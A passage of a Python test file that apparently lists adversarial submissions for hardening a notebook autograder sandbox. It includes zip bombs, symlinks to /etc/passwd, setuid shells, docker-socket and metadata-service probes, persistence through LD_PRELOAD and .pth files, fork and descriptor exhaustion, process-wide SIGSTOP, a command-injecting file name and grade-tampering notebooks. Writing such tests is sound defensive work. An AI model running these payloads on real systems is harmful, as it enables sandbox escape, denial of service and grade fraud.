        "\n".join(f"def f{i}(): return f{i + 1}()" for i in range(6000)),
        base="right",
        wall=False,
    ),
    Attack(
        "F23",
        "names that double: an alias of an alias",
        "block",
        "import numpy as a0\n" + "\n".join(f"a{i + 1} = a{i}.a" for i in range(15_000)),
        base="right",
        wall=False,
    ),
    Attack(
        "F24",
        "open files by passing them around, with nobody to close them",
        "harm",
        """
import os, socket
pairs = []
try:
    for _ in range(100):
        a, b = socket.socketpair(); pairs.append((a, b))
        for _ in range(250): socket.send_fds(a, [b"x"], [b.fileno(), a.fileno()] * 60)
except OSError: pass
""",
        base="right",
    ),
    Attack(
        "F25",
        "terminals, timers, watches, locks, queues",
        "harm",
        """
import fcntl, os, select, signal
kept = []
for make in (lambda: os.open("/dev/ptmx", os.O_RDWR), lambda: select.epoll(), lambda: os.eventfd(0)):
    try:
        while True: kept.append(make())
    except (OSError, AttributeError): pass
    for fd in kept:
        try: os.close(fd if isinstance(fd, int) else fd.fileno())
        except OSError: pass
    kept.clear()
""",
        base="right",
    ),
    Attack(
        "F26",
        "processors: sixty spinners at the end of the load",
        "harm",
        """
import os
for _ in range(30):
    try:
        if os.fork() == 0:
            while True: pass
    except OSError: break
""",
        base="right",
    ),
]

# G. Archives and notebooks


def notebook(change: Callable[[dict[str, Any]], Any]) -> Callable[[bytes], tuple[bytes, str]]:
    """The base's notebook with a change to its JSON."""

    def make(data: bytes) -> tuple[bytes, str]:
        node = json.loads(data)
        changed = change(node)
        return json.dumps(node if changed is None else changed).encode(), "tiny.ipynb"

    return make


def archive(*names: str, size: int = 0, link: bool = False) -> Callable[[bytes], tuple[bytes, str]]:
    """A zip with the notebook under these names, and `size` zeros besides."""

    def make(data: bytes) -> tuple[bytes, str]:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for name in names:
                info = zipfile.ZipInfo(name)
                if link:
                    info.external_attr = 0o120777 << 16
                z.writestr(info, b"/etc/passwd" if link else data)
            if size:
                with z.open("zeros.ipynb", "w", force_zip64=True) as f:
                    for _ in range(size >> 20):
                        f.write(bytes(1 << 20))
        return out.getvalue(), "tiny.zip"

    return make


def _many(node: dict[str, Any]) -> None:
    node["cells"] += [{"cell_type": "code", "source": "x = 1", "metadata": {}, "outputs": []}] * 100_000


def _doubled(node: dict[str, Any]) -> None:
    for cell in list(node["cells"]):
        node["cells"].append({**cell, "source": "softmax = scale = lambda *a, **k: 1\n"})


def _unlocked(node: dict[str, Any]) -> None:
    for cell in node["cells"]:
        told = cell["metadata"].get("nbgrader", {})
        if not told.get("solution"):
            cell["source"] = "np = __import__('math')\n%load_ext nothing\nexit()"
        told |= {"locked": False, "points": 100, "grade": True, "solution": True, "schema_version": 99}


def _absurd(node: dict[str, Any]) -> None:
    deep: Any = {}
    for _ in range(150):
        deep = {"x": [deep]}
    node["metadata"] |= {
        "kernelspec": {"name": "bash", "language": "bash"},
        "deep": deep,
        "unit": "../../etc",
        "autograder": deep,
    }
    node["nbformat_minor"] = 10**30
    for cell in node["cells"]:
        cell["id"] = "../" * 100


def _outputs(node: dict[str, Any]) -> None:
    for cell in node["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "<script>" * 100_000}]


G = [
    Attack("G1", "a zip bomb", "block", file=archive("tiny.ipynb", size=1 << 29), wall=False, slow=True),
    Attack("G2", "zips in zips", "block", file=lambda data: archive("a.zip")(archive("b.zip")(data)[0]), wall=False),
    Attack(
        "G3",
        "names that climb, absolute names, devices",
        "harm",
        file=archive("../../tmp/autograder-owned.ipynb", "/tmp/autograder-owned.ipynb", "CON.ipynb", "a\0b.ipynb"),
        wall=False,
    ),
    Attack("G4", "a link in a zip", "secret", file=archive("tiny.ipynb", link=True), wall=False),
    Attack("G5", "a hundred thousand cells", "block", file=notebook(_many), wall=False),
    Attack("G6", "the same grade ids again, with other cells", "points", file=notebook(_doubled), wall=False),
    Attack("G7", "given and test cells unlocked, changed and re-typed", "points", file=notebook(_unlocked), wall=False),
    Attack("G8", "absurd and foreign metadata", "block", file=notebook(_absurd), base="right", wall=False),
    Attack("G9", "megabytes of output", "block", file=notebook(_outputs), base="right", wall=False),
    Attack("G10", "broken JSON", "block", file=lambda data: (data[:-20], "tiny.ipynb"), wall=False),
    Attack(
        "G11",
        "JSON, a million deep",
        "block",
        file=lambda data: (b'{"cells":' * 10**5 + b"[" * 10**6, "tiny.ipynb"),
        wall=False,
    ),
    Attack(
        "G12",
        "not a notebook: numbers, lists, nulls",
        "block",
        file=lambda data: (
            b'{"cells": [null, 1, [], {"cell_type": 3, "source": [1, {}]}], "nbformat": "x"}',
            "tiny.ipynb",
        ),
        wall=False,
    ),
    Attack("G13", "all exercise cells deleted", "points", file=notebook(lambda n: n["cells"].clear()), wall=False),
    Attack(
        "G14",
        "magics: %%script, !cmd, %load_ext, %run, %%writefile, input()",
        "harm",
        """
%load_ext autoreload
!touch /tmp/autograder-owned
%run /etc/passwd
%system touch /tmp/autograder-owned
input("?")
""",
        base="right",
    ),
    Attack(
        "G15",
        "a cell magic that swallows the cells after it",
        "points",
        "%%script python\nprint('passed')\n",
        wall=False,
    ),
    Attack(
        "G16",
        "a file name of commands, paths and codes",
        "harm",
        file=lambda data: (data, "../../x;rm -rf $(HOME)\n\x1b[2J<script>.ipynb"),
        base="right",
        wall=False,
    ),
    Attack(
        "G17",
        "a million entries in a zip",
        "block",
        file=archive(*(f"{i}.txt" for i in range(60_000)), "tiny.ipynb"),
        wall=False,
        slow=True,
    ),
    Attack(
        "G18", "text in the wrong encodings", "block", file=lambda data: (b"\xff\xfe" + data, "tiny.ipynb"), wall=False
    ),
]

# I. Host and network

I = [
    Attack(
        "I1",
        "links where the host may later read or write",
        "secret",
        SEEK
        + """
for name in ("x", "results.json", "output", "answers"):
    for target in ("/etc/shadow", "/work/main/course.yaml", "/root"):
        try: os.unlink(name)
        except OSError: pass
        os.symlink(target, name); file(name)
""",
        base="right",
    ),
    Attack(
        "I2",
        "set-user-id files and capabilities",
        "harm",
        """
import os, shutil
for path in ("/tmp/su", "/dev/shm/su", "su"):
    shutil.copy("/bin/sh", path); os.chmod(path, 0o6777)
    try: os.setxattr(path, "security.capability", b"\\1\\0\\0\\2" + b"\\xff" * 16)
    except OSError: pass
    pid = os.fork()
    if pid == 0:
        os.execv(path, [path, "-p", "-c", "echo x > /etc/autograder-owned"])
    os.waitpid(pid, 0)
""",
    ),
    Attack(
        "I3",
        "the engine's socket, loopback services, metadata, DNS, raw sockets",
        "secret",
        SEEK
        + """
for family in (1, 2, 10, 16, 17, 40, 30, 38):
    for kind in (1, 2, 3, 5):
        try: s = socket.socket(family, kind)
        except OSError: continue
        for place in ("/var/run/docker.sock", "/work/main/.autograder/engine/docker.sock", "/box/channel/control",
                      ("127.0.0.1", 22), ("169.254.169.254", 80), ("8.8.8.8", 53), ("::1", 22)):
            try: s.connect(place); print("OWNED", "connected", family, place)
            except (OSError, TypeError): pass
try: socket.getaddrinfo("example.org", 80); print("OWNED", "resolved")
except OSError: pass
""",
    ),
    Attack(
        "I4",
        "LD_PRELOAD, PYTHONSTARTUP, .pth files for whoever comes next",
        "harm",
        """
import os, site, sys
os.environ.update(LD_PRELOAD="/tmp/x.so", PYTHONSTARTUP="/tmp/x.py", PYTHONPATH="/tmp", BASH_ENV="/tmp/x")
for folder in [*site.getsitepackages(), os.path.expanduser("~/.local/lib/python3.11/site-packages"), "/box/guest"]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/x.pth", "w").write("import os; os._exit(1)\\n")
    except OSError: pass
""",
    ),
    Attack(
        "I5",
        "change what is bound from the host: guest, data, environment, devices",
        "harm",
        """
import os, shutil
for path in ("/box/guest/wire.py", "/box/data/points.csv", "data/points.csv", "/box/env/bin/python", "/usr/bin/env", "/dev/null"):
    for change in (lambda: open(path, "a").write("#"), lambda: os.chmod(path, 0), lambda: os.utime(path), lambda: os.unlink(path),
                   lambda: os.rename(path, path + "x"), lambda: os.link(path, "/tmp/link"), lambda: os.truncate(path, 0),
                   lambda: os.setxattr(path, "user.x", b"y")):
        try: change()
        except OSError: pass
""",
    ),
    Attack(
        "I6",
        "cgroups, sysctl, core_pattern, sysrq, kernel files",
        "harm",
        """
import os
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs",
             "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"):
    try: open(path, "w").write("0")
    except OSError: pass
    else: print("OWNED", "wrote", path)
""",
        base="right",
    ),
    Attack(
        "I7",
        "new namespaces, mounts, devices, roots",
        "harm",
        """
import ctypes, os
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000, 0x40000000, 0x2000000, 0x80, 0x7c020000):
    if libc.unshare(flag) == 0: print("OWNED", "unshared", flag)
if libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0: print("OWNED", "mounted")
if libc.umount2(b"/proc", 2) == 0: print("OWNED", "unmounted")
node = lambda: os.mknod("/tmp/sda", 0o60666, os.makedev(8, 0))
for call in (node, lambda: os.chroot("/tmp"), lambda: os.setuid(0), lambda: os.setgroups([0])):
    try: call(); print("OWNED", "done")
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "I8",
        "keys typed into the grader's terminal",
        "harm",
        """
import fcntl, os
for fd in (0, 1, 2, os.open("/dev/ptmx", os.O_RDWR)):
    for code in (0x5412, 0x541C, 0x541D):
        try: fcntl.ioctl(fd, code, b"x"); print("OWNED", "typed", fd, code)
        except OSError: pass
""",
        base="right",
    ),
    Attack(
        "I9",
        "a hundred kernel calls that a notebook never needs",
        "harm",
        """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for number in range(160, 470):
    if number in (231, 435):  # exit_group and clone3 end or double only the child
        continue
    child = os.fork()
    if child == 0:
        signal.setitimer(signal.ITIMER_REAL, 0.005)  # some of them wait
        libc.syscall(number, 0, 0, 0, 0, 0, 0)
        os._exit(0)
    os.waitpid(child, 0)
""",
        base="right",
    ),
]

# J. Leftovers and neighbours

J = [
    Attack(
        "J1",
        "daemons in sessions of their own that wait for the next submission",
        "leftover",
        """
import os, signal, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 64):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        if os.fork(): os._exit(0)
        while True:
            try:
                for name in os.listdir("/tmp"): open("/dev/shm/" + name, "w").write("seen")
            except OSError: pass
            time.sleep(0.01)
""",
    ),
    Attack(
        "J2",
        "STOP for every process of the same user",
        "harm",
        """
import os, signal
for pid in [-1, *range(2, 5000)]:
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "J3",
        "notes for the next: keyrings, SysV and POSIX shared memory, queues, semaphores",
        "leftover",
        """
import ctypes
libc = ctypes.CDLL(None)
done = [libc.syscall(248, b"user", b"note", b"x", 1, -5), libc.shmget(0x1234, 4096, 0o1666)]
done += [libc.msgget(0x1234, 0o1666), libc.semget(0x1234, 1, 0o1666)]
if max(done) >= 0: print("OWNED", "noted", done)
""",
        base="right",
    ),
    Attack(
        "J4",
        "a listening abstract socket, and locks on files that all boxes share",
        "leftover",
        """
import fcntl, os, socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0autograder-note"); s.listen()
if os.fork() == 0:
    os.setsid()
    for path in ("/box/guest/wire.py", "/box/data/points.csv", "/usr/bin/env"):
        try: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError: pass
    while True: s.accept()
""",
    ),
    Attack(
        "J5",
        "unkillable: a child that is traced, stopped and in a full pipe",
        "leftover",
        """
import os, signal, time
for _ in range(10):
    if os.fork() == 0:
        os.setsid(); r, w = os.pipe()
        if os.fork() == 0: os.kill(os.getpid(), signal.SIGSTOP)
        while True: os.write(w, bytes(65536))
""",
    ),
    Attack(
        "J6",
        "zombies by the dozen",
        "leftover",
        """
import os
for _ in range(25):
    try:
        if os.fork() == 0: os._exit(0)
    except OSError: break
""",
        base="right",
    ),
    Attack(
        "J7",
        "the state of the generator, the umask, the limits and the niceness for the next",
        "harm",
        """
import os, random, resource, numpy as np
os.umask(0o777); random.seed(0); np.random.seed(0)
for limit in range(16):
    try: resource.setrlimit(limit, (0, 0))
    except (OSError, ValueError): pass
""",
    ),
]

# X. Not on the list

X = [
    Attack(
        "X1",
        "the grader by its pidfd from the socket: signals, namespaces, descriptors",
        "secret",
        SEEK
        + """
import fcntl, struct
try:
    fd = struct.unpack("i", socket.socket(fileno=os.dup(3)).getsockopt(1, 77, 4))[0]
    libc = ctypes.CDLL(None)
    for number in range(16):
        try: print("OWNED", "got", fcntl.ioctl(fd, 0xFF00 | number, 0))
        except OSError: pass
    if libc.syscall(424, fd, 0, 0, 0) == 0: print("OWNED", "signalled")
    if libc.syscall(438, fd, 1, 0) >= 0: print("OWNED", "got a descriptor")
    if libc.syscall(308, fd, 0) == 0: print("OWNED", "entered")
except OSError: pass
""",
        base="right",
    ),
    Attack(
        "X2",
        "signals by SIGIO: the channel owned by another process",
        "harm",
        """
import fcntl, os, signal
for pid in (1, 2, os.getppid(), -os.getpgid(0)):
    try:
        fcntl.fcntl(3, fcntl.F_SETOWN, pid); fcntl.fcntl(3, 10, signal.SIGKILL)
        fcntl.fcntl(3, fcntl.F_SETFL, fcntl.fcntl(3, fcntl.F_GETFL) | os.O_ASYNC)
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "X3",
        "urgent bytes in the middle of each answer",
        "block",
        FORGE
        + """
import socket
def urgent(notebook, header, values):
    s = socket.socket(fileno=os.dup(3))
    data = frame({"op": "answer", "nonce": header["nonce"]}, {"value": 1, "used": None})
    for i in range(0, len(data), 7):
        s.send(data[i:i + 7])
        try: s.send(b"!", socket.MSG_OOB)
        except OSError: pass
    return b""
guest._answer = urgent
""",
        wall=False,
    ),
    Attack(
        "X4",
        "the channel made non-blocking, tiny, half shut",
        "block",
        """
import fcntl, os, socket
s = socket.socket(fileno=os.dup(3))
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
fcntl.fcntl(3, fcntl.F_SETFL, os.O_NONBLOCK)
try: fcntl.fcntl(1, 1031, 4096)
except OSError: pass
s.shutdown(socket.SHUT_RD)
""",
        base="right",
        wall=False,
    ),
    Attack(
        "X5",
        "a class that asks to be imported by whoever reads its fault",
        "block",
        """
class Odd(Exception):
    __module__ = "os; import sys"
    def __getattribute__(self, name): raise Odd
    __traceback__ = property(lambda s: 1 / 0)
    __class__ = property(lambda s: KeyError)
def softmax(z): raise Odd()
def scale(x, a, b): raise Odd() from Odd()
raise Odd()
""",
        wall=False,
    ),
    Attack(
        "X6",
        "a traceback of ten thousand frames with lines beyond all files",
        "block",
        """
code = compile("\\n" * 2_000_000 + "raise ValueError", "cell-0", "exec")
def softmax(z): exec(code)
def scale(x, a, b): exec(compile("raise ValueError", "cell-" + "9" * 400, "exec"))
""",
        wall=False,
    ),
    Attack(
        "X7",
        "answers that cannot be given back: handles, deep lists, odd keys",
        "block",
        """
import numpy as np
deep = 1
for _ in range(22): deep = [deep]
class H: pass
def softmax(z): return [deep, H(), 10**399]
def scale(x, a, b): return {"y": {(1, 2): H()}, "slope": {None: deep}}
""",
        wall=False,
    ),
    Attack(
        "X8",
        "an object that dies when it is asked",
        "block",
        """
import os
class Dies:
    def __getattr__(self, name): os._exit(1)
    def sum(self, *a, **k): os._exit(1)
def softmax(z): return Dies()
def scale(x, a, b): return {"y": Dies(), "slope": Dies()}
""",
    ),
    Attack(
        "X9",
        "a new process at each call, with the answer left to a child",
        "points",
        """
import os
def softmax(z):
    if os.fork(): os._exit(0)
    return z
scale = softmax
""",
    ),
    Attack(
        "X10",
        "the loader says that it is done, and goes on",
        "secret",
        FORGE
        + LEAK
        + """
os.write(3, frame({"op": "loaded"}, {"faults": {"l": []}}))
import threading, time
def softmax(z): print(leak(z), flush=True); return z
""",
        wall=False,
    ),
    Attack(
        "X11",
        "a name that is no identifier, keywords that are arguments",
        "block",
        """
globals().update({"": 1, "softmax ": 2, "scale\\0": 3})
def softmax(*, z): return z
def scale(self, x, **more): return more
""",
        wall=False,
    ),
    Attack(
        "X12",
        "a picture of a million points and of nothing but NaN",
        "block",
        """
import numpy as np
def scale(x, a, b): return {"y": np.full(3_000_000, np.nan), "slope": [[1, 2], [3]]}
""",
        wall=False,
    ),
    Attack(
        "X13",
        "canaries of this host, by every call that names a path",
        "secret",
        SEEK
        + """
libc = ctypes.CDLL(None)
for root in ("", "/work/main/.autograder", "/proc/1/root/tmp", "/box/../../tmp", "/tmp"):
    path = root + "/autograder-canary"
    file(path)
    try: seek(os.listdir(os.path.dirname(path)), os.stat(path))
    except OSError: pass
""",
    ),
    Attack(
        "X14",
        "kernel calls newer than any list: statmount, listmount, open_tree_attr, file_setattr",
        "harm",
        """
import ctypes
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(65536)
request = ctypes.create_string_buffer((24).to_bytes(8, "little") + b"\\xff" * 8 + bytes(16))
for number in range(451, 480):
    if number not in (451, 454, 455, 456, 462) and libc.syscall(number, request, buffer, 65536, 0) >= 0:
        print("OWNED", "allowed", number)
""",
        base="right",
    ),
]

ATTACKS: tuple[Attack, ...] = (*A, *B, *C, *D, *E, *F, *G, *I, *J, *X)
